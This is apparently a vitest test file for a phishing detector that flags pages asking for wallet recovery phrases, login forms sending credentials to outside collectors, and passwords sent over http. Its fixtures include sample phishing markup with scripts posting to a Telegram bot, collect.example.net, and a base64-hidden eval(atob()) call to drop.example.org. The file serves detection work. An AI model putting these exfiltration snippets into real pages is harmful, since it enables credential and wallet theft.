import { describe, expect, it } from 'vitest';
import { pageBrandCatalogue } from '../brand/page-brands.ts';
import { parsePage } from '../page/page-facts.ts';
import { scriptCorpus } from '../page/revealed-code.ts';
import { urlFacts } from '../url/url-facts.ts';
import { collectorFinding, insecureLoginFinding, recoveryPhraseFinding } from './credential-collection.ts';

const page = (url: string, body: string, title = '') =>
  parsePage(`<html><head><title>${title}</title></head><body>${body}</body></html>`, url);
const phrase = (url: string, body: string) => recoveryPhraseFinding(page(url, body), urlFacts(url), pageBrandCatalogue());
const collector = (url: string, body: string) => {
  const parsed = page(url, body);
  return collectorFinding(parsed, urlFacts(url), scriptCorpus(parsed));
};

const LOGIN = '<form action="ACTION" method="post"><input name="email" type="email"><input name="password" type="password"></form>';
const PHRASE_FIELD = {
  en: 'Enter your 12 or 24 word recovery phrase',
  de: 'Geben Sie Ihre 24 Wörter der Wiederherstellungsphrase ein',
  fr: 'Saisissez votre phrase de récupération de 12 mots',
  it: 'Inserisci la frase di recupero',
  es: 'Introduce tu frase semilla',
  nl: 'Voer uw herstelzin van 12 woorden in',
  pt: 'Introduza a sua frase de recuperação',
};

describe('what a page asks for and where it sends it', () => {
  it.each(Object.entries(PHRASE_FIELD))('finds a recovery phrase asked for in a text area (%s)', (_language, wording) => {
    const found = phrase(
      'https://wallet-help.example/',
      `<h1>${wording}</h1><form><textarea name="t"></textarea><button>OK</button></form>`,
    );
    expect(found?.risk_score).toBe(90);
  });

  it('does not read a search box beside recovery-phrase warnings as a field for the phrase', () => {
    const warning = '<h1>Your 12-word recovery phrase</h1><p>Never enter your recovery phrase on a website.</p>';
    expect(phrase('https://docs.wallet-maker.example/', `<input type="search" placeholder="Search the docs">${warning}`)).toBeUndefined();
    expect(phrase('https://docs.wallet-maker.example/', `<form><input name="q">${warning}</form>`)).toBeUndefined();
    expect(phrase('https://docs.wallet-maker.example/', `<form><input name="phrase">${warning}</form>`)?.risk_score).toBe(90);
  });

  it('reads the fields of a sign-up or checkout beside a "never type your seed phrase" warning as what their labels say (decision 676)', () => {
    const warning = '<p>Nobody will ever ask for your 24-word recovery phrase: never type it on any website.</p>';
    const labelled =
      '<form><label>Name <input name="nome" autocomplete="name"></label><label>Parcel locker code <input name="locker"></label>' +
      '<label>Level <input name="level"></label><button>Register</button></form>';
    expect(phrase('https://meetup-city.example/workshop/', `${warning}${labelled}`)).toBeUndefined();
    // A field whose autocomplete names the data it holds, without a label, holds that data.
    expect(phrase('https://meetup-city.example/workshop/', `${warning}<form><input name="n" autocomplete="name"></form>`)).toBeUndefined();
    // A kit's bare box under the wording, or a box captioned with the phrase, still asks for it.
    expect(
      phrase('https://wallet-sync.example/', `<p>Enter your 24-word recovery phrase</p><form><input name="x"></form>`)?.risk_score,
    ).toBe(90);
    expect(
      phrase('https://wallet-sync.example/', `<p>Validate your wallet</p><form><label>Recovery phrase <input name="x"></label></form>`)
        ?.risk_score,
    ).toBe(90);
    expect(
      phrase(
        'https://wallet-sync.example/',
        `<p>Your 12 words</p><form><label>Wallet <input name="phrase" autocomplete="off"></label></form>`,
      )?.risk_score,
    ).toBe(90);
  });

  it('finds a grid of word fields without any wording, and none in an article or on a wallet maker\u2019s own site', () => {
    const grid = Array.from({ length: 12 }, (_, index) => `<input name="word${index + 1}">`).join('');
    expect(phrase('https://sync-node.example/', `<form>${grid}</form>`)?.message).toMatch(/12 word fields/);
    expect(phrase('https://news.example/', '<p>Never type your 24-word recovery phrase into any website.</p>')).toBeUndefined();
    expect(phrase('https://metamask.io/', `<p>Your secret recovery phrase</p><form><textarea></textarea></form>`)).toBeUndefined();
    // A newsletter form beside an article about phrases is an e-mail field, not a phrase field.
    expect(phrase('https://news.example/', '<p>What is a seed phrase?</p><form><input type="email" name="email"></form>')).toBeUndefined();
  });

  it('reads a swap app\u2019s amount fields beside a "never share your recovery phrase" warning as amounts, in any language', () => {
    const amounts =
      '<input id="a" placeholder="0.0" inputmode="decimal"><span>ETH</span><input placeholder="0.0"><span>USDC</span><button>Connect wallet</button>';
    for (const warning of [
      'We will never ask for your recovery phrase or private key.',
      'Wir fragen nie nach Ihrer Wiederherstellungsphrase.',
      'Nunca te pediremos tu frase de recuperación.',
    ])
      expect(phrase('https://app.swap-project.example/swap', `${amounts}<p>${warning}</p>`), warning).toBeUndefined();
    // The same wording above a one-line text field that could take the words is still a phrase form.
    expect(
      phrase('https://wallet-help.example/', '<p>Enter your recovery phrase</p><form><input name="x"><button>OK</button></form>')
        ?.risk_score,
    ).toBe(90);
  });

  it('finds logins sent to a Telegram bot, a kit mail script or another site by script', () => {
    expect(
      collector(
        'https://x.example/',
        `${LOGIN.replace('ACTION', '/a')}<script>fetch("https://api.telegram.org/bot123:abc/sendMessage")</script>`,
      )?.risk_score,
    ).toBe(95);
    expect(collector('https://x.example/', LOGIN.replace('ACTION', '/inc/next.php'))?.message).toMatch(/next\.php/);
    expect(
      collector(
        'https://x.example/',
        `${LOGIN.replace('ACTION', '#')}<script>$.ajax({ url: "https://collect.example.net/p", type: "POST" })</script>`,
      )?.message,
    ).toMatch(/collect\.example\.net/);
    // A script hidden behind atob() is read too.
    const hidden = Buffer.from('fetch("https://drop.example.org/log", {method:"POST"})').toString('base64');
    expect(collector('https://x.example/', `${LOGIN.replace('ACTION', '#')}<script>eval(atob("${hidden}"))</script>`)?.message).toMatch(
      /drop\.example\.org/,
    );
  });

  it('leaves a contact form mailed by send.php and a login posting to its own site alone', () => {
    expect(
      collector('https://club.example/', '<form action="/send.php"><input name="name"><textarea name="message"></textarea></form>'),
    ).toBeUndefined();
    expect(collector('https://club.example/', LOGIN.replace('ACTION', '/login'))).toBeUndefined();
  });

  it('calls a password over http an insecure login, on the page or in the form target', () => {
    expect(
      insecureLoginFinding(page('http://club.example/', LOGIN.replace('ACTION', '/login')), urlFacts('http://club.example/'))?.risk_score,
    ).toBe(60);
    expect(
      insecureLoginFinding(
        page('https://club.example/', LOGIN.replace('ACTION', 'http://club.example/login')),
        urlFacts('https://club.example/'),
      )?.message,
    ).toMatch(/unencrypted http to club\.example/);
    expect(
      insecureLoginFinding(page('https://club.example/', LOGIN.replace('ACTION', '/login')), urlFacts('https://club.example/')),
    ).toBeUndefined();
    expect(
      insecureLoginFinding(page('http://club.example/', '<form><input name="q"></form>'), urlFacts('http://club.example/')),
    ).toBeUndefined();
  });
});
